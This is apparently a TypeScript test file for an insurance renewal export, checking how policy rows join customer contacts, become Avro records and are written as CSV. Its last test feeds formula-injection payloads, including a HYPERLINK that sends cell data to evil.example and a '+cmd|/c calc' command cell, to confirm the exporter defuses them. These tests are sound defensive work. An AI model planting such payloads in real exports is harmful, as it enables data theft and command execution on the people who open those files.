import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import { SchemaCatalog } from '../../../../src/platform/avro/schema-catalog.js';
import { renewalCandidateRecord } from '../../../../src/domain/customer-view/renewals/renewal-candidate-record.js';
import { RENEWAL_CSV_COLUMNS, renewalCsv } from '../../../../src/domain/customer-view/renewals/renewal-csv.js';
import { type RenewalContact, type RenewalRow, renewalRows } from '../../../../src/domain/customer-view/renewals/renewal-row.js';
import { selectRenewals } from '../../../../src/domain/customer-view/renewals/renewal-selection.js';
import { sampleGoldenCustomer, sampleRenewalCandidate } from '../../../fixtures/sample-records.js';
import { policyOf } from './customer-view-records.js';

const MOTOR = 'PDAA202644030000012345';

const GOLDEN_ZHANG_WEI = sampleRenewalCandidate().goldenId as string;
const ZHANG_WEI: RenewalContact = {
  goldenId: GOLDEN_ZHANG_WEI,
  fullName: '张伟',
  mobile: '13812345678',
  email: 'zhang.wei@example.com.cn',
  valueSegment: 'GOLD',
};

function rows(): RenewalRow[] {
  const policies = [
    policyOf(),
    policyOf({
      policyNumber: 'PUNMATCHED',
      holder: { customerId: null, name: '李娜', idType: 'RESIDENT_ID', idNumber: 'x' },
      agentCode: null,
      expiryDate: '2027-12-01',
    }),
  ];
  return renewalRows(selectRenewals(policies, '2027-10-15', 60), (policy) => (policy.policyNumber === MOTOR ? ZHANG_WEI : undefined));
}

function row(changes: Partial<RenewalRow>): RenewalRow {
  return { ...(rows()[0] as RenewalRow), ...changes };
}

describe('renewal rows', () => {
  it('join each candidate with its golden contact, or keep the name on the policy', () => {
    expect(rows()).to.deep.equal([
      {
        policyNumber: MOTOR,
        productLine: 'MOTOR',
        productName: '机动车商业保险',
        expiryDate: '2027-11-30',
        daysToExpiry: 46,
        premium: '3860.50',
        currency: 'CNY',
        goldenId: GOLDEN_ZHANG_WEI,
        holderName: '张伟',
        holderCustomerId: 'C440300000123',
        mobile: '13812345678',
        email: 'zhang.wei@example.com.cn',
        valueSegment: 'GOLD',
        agentCode: 'AG4403001207',
      },
      {
        policyNumber: 'PUNMATCHED',
        productLine: 'MOTOR',
        productName: '机动车商业保险',
        expiryDate: '2027-12-01',
        daysToExpiry: 47,
        premium: '3860.50',
        currency: 'CNY',
        goldenId: null,
        holderName: '李娜',
        holderCustomerId: null,
        mobile: null,
        email: null,
        valueSegment: null,
        agentCode: null,
      },
    ]);
  });

  it('take their contact from a golden customer record, and the policy name when it has none', () => {
    const golden = { ...sampleGoldenCustomer(), valueSegment: 'GOLD' } as unknown as RenewalContact;
    const [matched] = renewalRows(
      selectRenewals([policyOf({ holder: { customerId: null, name: '张 伟', idType: 'RESIDENT_ID', idNumber: 'x' } })], '2027-10-15', 60),
      () => golden,
    );
    expect(matched).to.include({
      goldenId: GOLDEN_ZHANG_WEI,
      holderName: '张伟',
      mobile: '13812345678',
      email: 'zhang.wei@example.com.cn',
      valueSegment: 'GOLD',
    });
    const [nameless] = renewalRows(selectRenewals([policyOf()], '2027-10-15', 60), () => ({ ...golden, fullName: null }));
    expect(nameless?.holderName).to.equal('张伟');
    expect(nameless?.goldenId).to.equal(GOLDEN_ZHANG_WEI);
  });

  it('become valid policy.renewal-candidate.v1 records', async () => {
    const catalog = await SchemaCatalog.load();
    const type = catalog.type(catalog.topicInfo('policy.renewal-candidate.v1').record);
    const sample = sampleRenewalCandidate();
    const record = renewalCandidateRecord(rows()[0] as RenewalRow, sample.meta as Parameters<typeof renewalCandidateRecord>[1]);
    expect(type.isValid(record)).to.equal(true);
    expect(record).to.deep.equal(sample);
    const unmatched = renewalCandidateRecord(rows()[1] as RenewalRow, sample.meta as Parameters<typeof renewalCandidateRecord>[1]);
    expect(type.isValid(unmatched)).to.equal(true);
    expect(unmatched).to.include({ goldenId: null, valueSegment: null, contactPhone: null, holderName: '李娜' });
    const oddSegment = renewalCandidateRecord(
      { ...(rows()[0] as RenewalRow), valueSegment: 'VIP' },
      sample.meta as Parameters<typeof renewalCandidateRecord>[1],
    );
    expect(oddSegment.valueSegment).to.equal(null);
    expect(type.isValid(oddSegment)).to.equal(true);
  });
});

describe('renewalCsv', () => {
  it('writes a header row and one CRLF line per row, empty cells for missing values', () => {
    const csv = renewalCsv(rows());
    expect(csv.split('\r\n')).to.deep.equal([
      RENEWAL_CSV_COLUMNS.join(','),
      `${MOTOR},MOTOR,机动车商业保险,2027-11-30,46,3860.50,CNY,${GOLDEN_ZHANG_WEI},张伟,13812345678,zhang.wei@example.com.cn,GOLD,AG4403001207`,
      'PUNMATCHED,MOTOR,机动车商业保险,2027-12-01,47,3860.50,CNY,,李娜,,,,',
      '',
    ]);
    expect(csv.charCodeAt(0)).not.to.equal(0xfeff);
  });

  it('starts with a UTF-8 byte order mark when asked, for Excel', () => {
    const csv = renewalCsv(rows(), { bom: true });
    expect(csv.charCodeAt(0)).to.equal(0xfeff);
    expect(Buffer.from(csv, 'utf8').subarray(0, 3)).to.deep.equal(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(csv.slice(1)).to.equal(renewalCsv(rows()));
  });

  it('quotes commas, quotes and line breaks, and keeps Chinese text as it is', () => {
    const tricky = row({ productName: '家财险, 综合版', holderName: '王"小"明', email: 'a@b.cn\nBcc: x@y.cn', agentCode: '代理\r人' });
    const csv = renewalCsv([tricky]);
    expect(csv).to.contain('"家财险, 综合版"').and.contain('"王""小""明"').and.contain('"a@b.cn\nBcc: x@y.cn"').and.contain('"代理\r人"');
    const [header, values] = parse(csv, { bom: true }) as string[][];
    expect(header).to.deep.equal([...RENEWAL_CSV_COLUMNS]);
    expect(values).to.deep.equal(RENEWAL_CSV_COLUMNS.map((column) => String(tricky[column] ?? '')));
  });

  it('defuses cells a spreadsheet would run as formulas', () => {
    const hostile = row({
      holderName: '=HYPERLINK("http://evil.example/?"&A1,"点我")',
      email: '@SUM(1+1)',
      productName: '-2+3',
      agentCode: '+cmd|/c calc',
      valueSegment: '\tTAB',
    });
    const [, values] = parse(renewalCsv([hostile]), { relax_quotes: false }) as string[][];
    const cell = (column: (typeof RENEWAL_CSV_COLUMNS)[number]) => values?.[RENEWAL_CSV_COLUMNS.indexOf(column)];
    expect(cell('holderName')).to.equal(`'=HYPERLINK("http://evil.example/?"&A1,"点我")`);
    expect(cell('email')).to.equal("'@SUM(1+1)");
    expect(cell('productName')).to.equal("'-2+3");
    expect(cell('agentCode')).to.equal("'+cmd|/c calc");
    expect(cell('valueSegment')).to.equal("'\tTAB");
    // Harmless text and numbers are left alone.
    expect(cell('policyNumber')).to.equal(MOTOR);
    expect(cell('daysToExpiry')).to.equal('46');
  });
});
